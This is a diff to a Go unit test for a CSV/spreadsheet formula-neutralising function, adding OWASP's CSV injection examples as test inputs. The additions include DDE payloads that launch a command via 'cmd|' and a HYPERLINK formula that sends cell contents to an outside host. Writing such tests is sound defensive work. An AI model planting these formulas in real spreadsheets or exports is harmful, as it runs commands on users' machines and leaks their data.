@@ -154,6 +154,14 @@ func TestNeutralise(t *testing.T) {
 	tests := []struct{ in, want string }{
 		{"=1+1", "'=1+1"}, {"+31 6", "'+31 6"}, {"-2", "'-2"}, {"@SUM(A1)", "'@SUM(A1)"},
 		{"\tx", "'\tx"}, {"\rx", "'\rx"}, {"Jansen", "Jansen"}, {"", ""}, {"a=b", "a=b"},
+		// The examples of OWASP's CSV injection page.
+		{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
+		{"@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"},
+		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
+		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
+		{`=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")`,
+			`'=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")`},
+		{"=10+20+cmd|' /C calc'!A0", "'=10+20+cmd|' /C calc'!A0"},
 	}
 	for _, tt := range tests {
 		if got := Neutralise(tt.in); got != tt.want {
